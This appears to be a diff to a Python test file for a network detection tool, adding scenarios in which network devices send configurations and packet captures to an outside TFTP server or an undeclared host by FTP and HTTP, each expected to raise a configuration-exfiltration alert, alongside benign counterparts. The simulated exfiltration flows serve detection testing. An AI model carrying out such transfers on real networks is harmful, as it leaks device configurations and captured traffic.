@@ -6,7 +6,7 @@ import json
 
 from bootwarden.scenarios.model import Expect, Notice, scenario
 from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, HQ, OUTSIDE, ROGUE
-from bootwarden.traffic import http
+from bootwarden.traffic import ftp, http, images, tftp
 from bootwarden.traffic.tacacs import Device
 from bootwarden.traffic.wire import Wire
 
@@ -145,3 +145,59 @@ def bw18_tacacs_backups(wire: Wire) -> None:
         device = Device(wire, f"10.0.1.{last}", AAA)
         device.authorize(command, source=ADMIN)
         device.close()
+
+
+SHOWN = (
+    b"\n------------------ show version ------------------\n\nCisco IOS Software, C2900 Software, Version 15.7(3)M8\n"
+)
+PCAP = b"\xd4\xc3\xb2\xa1\x02\x00\x04\x00" + bytes(16) + b"captured packets " * 90
+PCAPNG = b"\x0a\x0d\x0d\x0a\x1c\x00\x00\x00\x4d\x3c\x2b\x1a" + bytes(16) + b"captured packets " * 90
+LEAVING = ((21, "a.dat", PCAP), (22, "b.dat", PCAPNG), (23, "c.txt", SHOWN + b"Compiled Mon 03-Aug-20\n" * 60))
+
+
+@scenario(
+    "BW18",
+    "malicious",
+    raises=[("BW18", 2, f"10.0.1.{last}", OUTSIDE) for last, *_ in LEAVING],
+    site=HQ,
+    with_site=Expect(
+        tuple(Notice("Config_Exfiltration", f"10.0.1.{last}", OUTSIDE, name) for last, name, _ in LEAVING)
+    ),
+)
+def bw18_captures_leave(wire: Wire) -> None:
+    """Devices write captured packets, in both formats, and `show tech-support` to a TFTP server outside."""
+    for last, name, content in LEAVING:
+        tftp.write(wire, f"10.0.1.{last}", OUTSIDE, name, content)
+
+
+@scenario("BW18", "benign", site=HQ, with_site=Expect())
+def bw18_captures_at_home(wire: Wire) -> None:
+    """They write them to the declared server; a host that is no device sends its own; a capture is read."""
+    for last, name, content in LEAVING:
+        tftp.write(wire, f"10.0.1.{last}", BOOT_SERVER, name, content)
+    tftp.write(wire, "10.20.1.5", "10.20.1.9", "mine.pcap", PCAP)
+    tftp.read(wire, "10.0.1.24", BOOT_SERVER, "replay.pcap", PCAP)
+
+
+TAKER = "10.20.6.66"
+"""A host inside that nobody declared."""
+
+
+@scenario(
+    "BW18",
+    "malicious",
+    raises=[],
+    site=HQ,
+    with_site=Expect(
+        (
+            Notice("Config_Exfiltration", "10.0.1.31", TAKER, "edge31.cfg"),
+            Notice("Config_Exfiltration", "10.0.1.32", TAKER, "/edge32.cfg"),
+            Notice("Config_Exfiltration", "10.0.1.33", TAKER, "tac.pcap"),
+        )
+    ),
+)
+def bw18_by_ftp_and_http(wire: Wire) -> None:
+    """Devices hand configurations and captured packets to a host that is not declared, by FTP and HTTP."""
+    ftp.store(wire, "10.0.1.31", TAKER, "edge31.cfg", images.config("edge31"))
+    http.put(wire, "10.0.1.32", TAKER, "/edge32.cfg", images.config("edge32"))
+    ftp.store(wire, "10.0.1.33", TAKER, "tac.pcap", PCAP)
